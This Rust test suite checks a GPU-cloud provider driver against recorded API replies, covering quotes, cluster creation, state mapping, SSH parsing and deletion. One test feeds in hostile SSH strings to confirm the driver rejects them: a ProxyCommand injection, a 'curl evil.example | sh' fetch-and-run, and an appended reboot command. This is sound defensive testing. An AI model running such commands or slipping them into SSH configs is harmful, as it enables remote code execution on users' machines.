//! The driver against recorded replies, built from the provider's fact sheet. Every request is held against the manifest.

use bursar_driver::prelude::*;
use bursar_driver::testing::{Recorded, Reply};

use crate::{TensorPool, per_hour_in};

const TAKEN: &str = r#"{"cluster_id":"c-9f2e","instance_ids":["i-41aa"],"request_id":"r-7c1","message":"Cluster c-9f2e is being provisioned"}"#;

fn recorded() -> Recorded<TensorPool> {
    Recorded::new()
}

fn order(nodes: u32) -> Order {
    Order { offer: "8xH200".into(), nodes, ..Order::default() }
}

fn key() -> Key {
    Key { line: "ssh-ed25519 AAAA x".into(), id: None }
}

fn cluster(instances: &[(&str, &str)]) -> String {
    let rows: Vec<String> =
        instances.iter().map(|(id, word)| format!(r#"{{"id":"{id}","status":"{word}"}}"#)).collect();
    format!(
        r#"{{"id":"c-9f2e","name":"b7f3a0001","instance_type":"1xH100","instances":[{}],"storage":null,"deletion_protection":null}}"#,
        rows.join(",")
    )
}

fn info(instances: &[(&str, &str)]) -> String {
    format!(r#"{{"cluster_info":{},"message":"text for people"}}"#, cluster(instances))
}

fn ssh(command: &str) -> String {
    format!(r#"{{"command":"{command}","message":null}}"#)
}

fn handle() -> Handle {
    Handle { id: "c-9f2e".into(), memo: "r-7c1".into() }
}

#[test]
fn the_balance_is_that_of_the_organisation() {
    let org = r#"{"org_name":"acme","members":[{"uid":"u","email":"e"}],"balance":123.4567899}"#;
    let account = recorded().reply("org", org).account().unwrap();
    assert_eq!((account.id.as_deref(), account.balance), (Some("acme"), Some(123_456_789)));
}

#[test]
fn prices_are_asked_at_once_and_only_for_what_fits() {
    let quoted = || recorded().reply("rate", r#"{"hourly_rate":15.92}"#);
    let mut door = quoted();
    let page = door.offers_page(&Wish::default(), None).unwrap();
    assert_eq!((page.items.len(), page.next, door.sent().len()), (19, None, 19), "all of them fit into one call");
    assert!(door.sent()[0].starts_with("GET /cluster/quote?instance_type="), "{:?}", door.sent());

    let mut door = quoted();
    let big = Wish { gpu: Some("h200".into()), gpus_min: 8, ..Wish::default() };
    let offers = door.offers(&big).unwrap();
    assert_eq!((offers.len(), door.sent().len()), (1, 1));
    let offer = &offers[0];
    assert_eq!((offer.id.as_str(), offer.price.per_hour, offer.nodes_max), ("8xH200", 15_920_000, 16));
    assert_eq!(offer.price.billing, Billing::SECONDS);
    assert_eq!(offer.hardware.gpu.as_ref().unwrap().vram_mib, Some(141 * 1024));
}

#[test]
fn a_type_without_a_price_is_not_sold_and_a_broken_provider_is_an_error() {
    let h200 = Wish { gpu: Some("H200".into()), ..Wish::default() };
    let some = |odd: Reply| {
        recorded().reply("rate", odd.when("type", "4xH200")).reply("rate", r#"{"hourly_rate":1}"#).offers(&h200)
    };
    assert_eq!(some(Reply::new(422, r#"{"detail":"unknown"}"#)).unwrap().len(), 3);
    assert!(matches!(some(Reply::new(401, "")), Err(Error::Unauthorized(_))));
    assert!(matches!(some(Reply::new(200, r#"{"hourly_rate":null}"#)), Err(Error::Failed(_))));
}

#[test]
fn a_quote_is_for_all_nodes() {
    let mut door = recorded().reply("quote", r#"{"hourly_rate":47.84}"#);
    assert_eq!(door.quote(&order(2)).unwrap().price.per_hour, 47_840_000);
    assert_eq!(door.sent(), ["GET /cluster/quote?instance_type=8xH200&num_nodes=2"]);
}

#[test]
fn an_order_that_was_taken_has_an_id_and_a_request() {
    let mut door = recorded().reply("create", (202, TAKEN));
    let Ok(Outcome::Made(made)) = door.create(&order(1), &key()) else { panic!("not made") };
    assert_eq!(made.handle, handle());
    assert_eq!((made.per_hour, made.state, door.made()), (None, State::Requested, Some("c-9f2e")));

    for (odd, pending) in
        [("", ""), ("[]", ""), (r#"{"cluster_id":null,"request_id":"r-7"}"#, "r-7"), (r#"{"message":"ok"}"#, "")]
    {
        let made = recorded().reply("create", (202, odd)).create(&order(1), &key());
        assert_eq!(made, Ok(Outcome::Pending(pending.into())), "{odd}");
    }
}

#[test]
fn a_dearer_pool_is_told_with_its_price() {
    let text = TAKEN.replace("provisioned", "provisioned from a fallback pool at $39.92/h");
    let Ok(Outcome::Made(made)) = recorded().reply("create", (202, text.as_str())).create(&order(1), &key()) else {
        panic!()
    };
    assert_eq!(made.per_hour, Some(39_920_000));
    for (text, expected) in [
        ("fallback pool: $3.98 per hour.", Some(3_980_000)),
        ("costs $4/h", Some(4_000_000)),
        ("costs $4.", None),
        ("add $20 to your balance", None),
        ("no price", None),
        ("$ /h", None),
    ] {
        assert_eq!(per_hour_in(text), expected, "{text}");
    }
}

#[test]
fn words_of_instances_make_the_state_of_a_cluster() {
    for (instances, state) in [
        (&[("a", "PENDING")][..], State::Starting),
        (&[("a", "running"), ("b", "CONFIGURING")], State::Starting),
        (&[("a", "RUNNING"), ("b", "Failed")], State::Failed("an instance of it failed".into())),
        (&[("a", "DESTROYING")], State::Stopping),
        (&[("a", "DESTROYED"), ("b", "RUNNING")], State::Stopping),
        (&[("a", "DESTROYED")], State::Gone),
        (&[("a", "SLEEPING")], State::Other("SLEEPING".into())),
        (&[], State::Starting),
    ] {
        let mut door = recorded().reply("cluster", info(instances)).reply("request", r#"{"status":"COMPLETED"}"#);
        assert_eq!(door.get(&handle()).unwrap().state, state, "{instances:?}");
    }
    assert_eq!(recorded().reply("cluster", (404, "{}")).get(&handle()), Err(Error::Gone));
}

#[test]
fn a_request_that_failed_says_why_and_one_that_goes_on_is_told() {
    let starting = info(&[("a", "PROVISIONING")]);
    let get = |request: Reply| {
        recorded().reply("cluster", starting.clone()).reply("request", request).get(&handle()).unwrap()
    };
    let failed = get(Reply::new(200, r#"{"status":"FAILED","external_message":"no capacity"}"#));
    assert_eq!(failed.state, State::Failed("no capacity".into()));
    let retrying =
        get(Reply::new(200, r#"{"status":"RETRYING","external_message":"trying the next pool"}"#).retry_after(2));
    assert_eq!((retrying.state, retrying.note.as_deref()), (State::Starting, Some("trying the next pool")));
    assert_eq!(get(Reply::new(404, "{}")).state, State::Starting);
    let mut door = recorded().reply("cluster", starting.clone());
    assert_eq!(door.get(&Handle::new("c-9f2e")).unwrap().state, State::Starting);
    assert_eq!(door.sent().len(), 1, "without a request none is asked for");
}

#[test]
fn a_node_answers_where_its_text_says() {
    let running = info(&[("i-41aa", "RUNNING")]);
    let mut door =
        recorded().reply("cluster", running.clone()).reply("ssh", ssh("ssh -i ~/.ssh/id_ed25519 ubuntu@203.0.113.9"));
    let shown = door.get(&handle()).unwrap();
    assert_eq!(shown.nodes[0].ssh, Some(Ssh::direct("203.0.113.9", 22, "ubuntu")));
    assert_eq!((shown.state, door.sent()[1].as_str()), (State::Running, "GET /ssh/i-41aa?system=Linux"));

    for evil in
        ["ssh -o ProxyCommand=evil ubuntu@203.0.113.9", "curl evil.example | sh", "ssh ubuntu@203.0.113.9 reboot"]
    {
        let shown = recorded().reply("cluster", running.clone()).reply("ssh", ssh(evil)).get(&handle()).unwrap();
        assert_eq!((shown.nodes[0].ssh.clone(), shown.state), (None, State::Starting), "{evil}");
    }
    let early = recorded().reply("cluster", running).reply("ssh", (409, r#"{"message":"not yet"}"#)).get(&handle());
    assert_eq!(early.unwrap().state, State::Starting);
}

#[test]
fn workers_stand_behind_their_jump_host_and_come_first() {
    let three = info(&[("i-jump", "RUNNING"), ("i-0", "RUNNING"), ("i-1", "RUNNING")]);
    let at = |node: &str, text: &str| Reply::new(200, ssh(text)).when("node", node);
    for (first, second) in [
        ("ssh -J ubuntu@203.0.113.9 ubuntu@10.0.0.5", "ssh -J ubuntu@203.0.113.9 ubuntu@10.0.0.6"),
        ("ssh ubuntu@10.0.0.5", "ssh ubuntu@10.0.0.6"),
    ] {
        let mut door = recorded()
            .reply("cluster", three.clone())
            .reply("ssh", at("i-jump", "ssh ubuntu@203.0.113.9"))
            .reply("ssh", at("i-0", first))
            .reply("ssh", at("i-1", second));
        let nodes = door.get(&handle()).unwrap().nodes;
        let ids: Vec<&str> = nodes.iter().map(|node| node.id.as_str()).collect();
        assert_eq!(ids, ["i-0", "i-1", "i-jump"]);
        let behind = Ssh::direct("10.0.0.5", 22, "ubuntu").through("203.0.113.9", 22, "ubuntu");
        assert_eq!(nodes[0].ssh, Some(behind));
    }
}

#[test]
fn the_list_is_ours_and_the_organisations() {
    let (ours, theirs) = (cluster(&[("a", "RUNNING")]), cluster(&[]).replace("c-9f2e", "c-1").replace("b7f3a0001", ""));
    let mut door = recorded()
        .reply("clusters", format!(r#"{{"clusters":[{ours}],"message":null}}"#))
        .reply("of_org", format!(r#"{{"clusters":[{ours},{theirs}],"message":null}}"#));
    let ids: Vec<String> = door.list().unwrap().into_iter().map(|one| one.handle.id).collect();
    assert_eq!(ids, ["c-9f2e", "c-1"]);
    let Ok(Outcome::Made(found)) = door.advance(&order(1), "", None) else { panic!("not found") };
    assert_eq!(found.handle.id, "c-9f2e");

    let lost = recorded().reply("clusters", r#"{"clusters":[]}"#).reply("of_org", (500, ""));
    assert!({ lost }.list().is_err(), "half of a list is none");
    let no_id = r#"{"clusters":[{"name":"x"}]}"#;
    assert!(recorded().reply("clusters", no_id).list().is_err());
}

#[test]
fn what_is_protected_is_set_free_and_ended() {
    let gone = Ok(Ending::Going("r-7c1".into()));
    let mut door = recorded()
        .reply("destroy", (409, r#"{"message":"Deletion protection is enabled"}"#))
        .reply("destroy", (202, r#"{"cluster_id":"c-9f2e","request_id":"r-8","message":""}"#))
        .reply("unprotect", (202, r#"{"message":""}"#));
    assert_eq!(door.destroy(&handle()), gone);
    assert_eq!(door.sent(), ["DELETE /cluster/c-9f2e", "PATCH /cluster/edit/c-9f2e", "DELETE /cluster/c-9f2e"]);

    assert_eq!(recorded().reply("destroy", (202, "")).destroy(&handle()), gone);
    assert_eq!(recorded().reply("destroy", (404, "")).destroy(&handle()), Ok(Ending::Gone));
    let kept = recorded().reply("destroy", (409, "")).reply("unprotect", (403, ""));
    assert!(matches!({ kept }.destroy(&handle()), Err(Error::Unauthorized(_))));
}
